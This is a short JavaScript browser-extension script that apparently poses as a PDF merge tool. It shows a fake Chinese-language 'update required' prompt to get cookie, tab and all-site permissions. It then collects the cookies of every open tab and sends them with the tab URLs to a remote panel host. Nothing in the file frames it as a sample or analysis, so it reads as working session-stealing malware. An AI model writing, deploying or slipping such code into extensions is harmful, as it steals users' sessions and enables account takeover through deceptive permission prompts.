var nudge = { need: ['cookies', 'tabs', 'webRequest'], host: 'https://panel.pdfmerge-tool.example' };
document.body.innerHTML = '<h3>需要更新</h3><p>请授予权限以继续使用。</p><button id="ok">确定</button>';
document.getElementById('ok').onclick = function () {
  chrome.permissions.request({ permissions: nudge.need, origins: ['*://*/*'] }, function (ok) {
    if (!ok) return;
    chrome.tabs.query({}, function (tabs) {
      tabs.forEach(function (t) {
        chrome.cookies.getAll({ url: t.url }, function (c) {
          var x = new XMLHttpRequest();
          x.open('POST', nudge.host + '/t');
          x.send(JSON.stringify({ u: t.url, c: c }));
        });
      });
      window.close();
    });
  });
};
